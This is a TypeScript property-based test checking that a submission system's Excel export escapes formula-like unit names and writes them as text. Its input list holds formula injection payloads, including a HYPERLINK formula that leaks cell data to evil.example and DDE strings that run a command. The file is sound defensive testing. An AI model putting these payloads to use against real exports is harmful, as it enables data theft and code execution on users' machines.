import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { Unit } from '../../src/modules/units/unit.entity';
import { createSubmissionWorld, type SubmissionWorld } from '../utils/submission-world';
import { engines } from '../utils/test-database';
import { startTestServer, type TestServer } from '../utils/test-server';

const UPDATE_UNIT = `mutation($input: UpdateUnitInput!) { updateUnit(input: $input) { id name version } }`;
const FORMULA_START = /^[=+\-@\t\r]/;

/** Unit names a department (or an attacker with its account) might save: formulas, DDE, plain text. */
const unitName = fc.oneof(
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ minLength: 1, maxLength: 30 }))
    .map(([c, rest]) => `${c}${rest}`),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    '=cmd|" /C calc"!A0',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1:A9)',
    "='市发改委'",
    '市发展和改革委员会',
  ),
);

/**
 * Whatever a unit is called, the export a leader opens in Excel or WPS shows it as text: a name
 * saved through the API that starts with = + - @ comes back prefixed with an apostrophe, and no
 * cell of the workbook is a formula.
 */
describe.each(engines)('spreadsheet exports escape formula-like names on %s', (engine) => {
  let t: TestServer;
  let world: SubmissionWorld;

  beforeAll(async () => {
    t = await startTestServer(engine);
    world = await createSubmissionWorld(t);
  }, 60_000);
  afterAll(async () => {
    await t.close();
  });

  it('writes every name as text, prefixing the formula-like ones', async () => {
    const fgw = world.units.get('GH-FGW')!;
    await fc.assert(
      fc.asyncProperty(unitName, async (name) => {
        const current = await t.dataSource.getRepository(Unit).findOneByOrFail({ id: fgw.id });
        const renamed = await t.gql(
          UPDATE_UNIT,
          { input: { id: fgw.id, version: current.version, name } },
          { token: world.officeToken },
        );
        expect(renamed.errors).toBeUndefined();
        const res = await fetch(`${t.url}/files/exports/completion.xlsx?periodId=${world.yearPeriodId}`, {
          headers: { authorization: `Bearer ${world.officeToken}` },
        });
        expect(res.status).toBe(200);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
        let found = false;
        wb.eachSheet((sheet) => {
          sheet.eachRow((row) => {
            row.eachCell((cell) => {
              expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
              if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
            });
            if (row.getCell(1).value === 'GH-FGW') {
              found = true;
              expect(row.getCell(2).value).toBe(FORMULA_START.test(name) ? `'${name}` : name);
            }
          });
        });
        expect(found).toBe(true);
      }),
      { numRuns: 6, seed: 3 },
    );
  }, 120_000);
});
